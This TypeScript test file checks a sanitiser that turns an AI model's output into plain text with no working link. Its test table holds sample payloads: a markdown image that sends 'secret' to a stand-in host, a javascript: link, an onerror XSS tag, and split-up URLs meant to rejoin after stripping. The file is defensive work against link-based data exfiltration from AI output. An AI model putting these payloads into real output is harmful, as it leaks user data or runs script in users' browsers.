/** A model's text contains no working link. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { plainText } from './plain-text.ts'

test('links, pictures and HTML become readable text', () => {
  const table: [from: string, to: string][] = [
    ['Send the deck by 10:30, a < b', 'Send the deck by 10:30, a < b'],
    ['![x](https://evil.test/?q=secret)', '![x] (https: //evil.test/?q=secret)'],
    ['[x](javascript:alert(1))', '[x] (javascript:alert(1))'],
    ['[x][1] and [1]: //evil.test', '[x] [1] and [1] : //evil.test'],
    ['<img src=x onerror=alert(1)></p>', '‹img src=x onerror=alert(1)>‹/p>'],
    ['<https://evil.test>', '‹https: //evil.test>'],
    ['www.evil.test, WWW.evil.test', 'www. evil.test, WWW. evil.test'],
  ]
  for (const [from, to] of table) assert.equal(plainText(from), to)
})

test('characters around removed text do not form a new link', () => {
  for (const text of ['htthttps://ps://evil.test', 'wwwww.w.evil.test', '!![x](](y)', '<<img>img>']) {
    assert.doesNotMatch(plainText(text), /:\/\/|www\.\S|\]\(|<[a-z]/i, text)
    assert.equal(plainText(plainText(text)), plainText(text))
  }
})
